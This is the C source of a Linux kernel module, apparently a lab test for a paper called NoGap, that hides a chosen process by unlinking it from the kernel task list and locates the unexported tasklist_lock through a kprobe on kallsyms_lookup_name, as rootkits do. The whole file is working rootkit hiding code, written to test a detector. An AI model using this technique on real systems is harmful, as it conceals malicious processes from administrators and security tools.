// SPDX-License-Identifier: GPL-2.0
/*
 * hide.ko - lab test module: hide a running process from the kernel's task
 * list by direct kernel object manipulation, as the rootkits in the NoGap
 * paper do. `insmod hide.ko pid=N` unlinks task N from init_task.tasks, so
 * that a walk of the list (for_each_process, and NoGap's walk from the
 * initial task) no longer meets it; the process keeps running and being
 * scheduled. Nothing else is touched (its pid stays in the pid hash).
 *
 * tasklist_lock is not exported: like a rootkit, the module finds it with
 * kallsyms_lookup_name, itself found through a kprobe.
 *
 * The unlink is RCU-safe: list_del_rcu, a grace period, then the entry is
 * made to point at itself, so that the list_del_rcu of release_task() when
 * the process exits (or is killed) is harmless.
 */
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to hide (thread group leader)");

static rwlock_t *find_tasklist_lock(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&kp))
		return NULL;
	lookup = (void *)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? (rwlock_t *)lookup("tasklist_lock") : NULL;
}

static int __init hide_init(void)
{
	rwlock_t *lock = find_tasklist_lock();
	struct task_struct *t;

	if (!lock) {
		pr_err("hide: tasklist_lock not found\n");
		return -ENOENT;
	}

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t) {
		pr_err("hide: no process %d\n", pid);
		return -ESRCH;
	}
	if (!thread_group_leader(t) || (t->flags & PF_EXITING)) {
		pr_err("hide: %d is not a live thread group leader\n", pid);
		put_task_struct(t);
		return -EINVAL;
	}
	write_lock_irq(lock);
	list_del_rcu(&t->tasks);
	write_unlock_irq(lock);
	synchronize_rcu();
	write_lock_irq(lock);
	INIT_LIST_HEAD(&t->tasks);
	write_unlock_irq(lock);
	pr_info("hide: process %d (%s, task %px) unlinked from the task list\n",
		pid, t->comm, t);
	put_task_struct(t);
	return 0;
}

static void __exit hide_exit(void)
{
}

module_init(hide_init);
module_exit(hide_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("NoGap lab: hide a process by unlinking it from the task list");
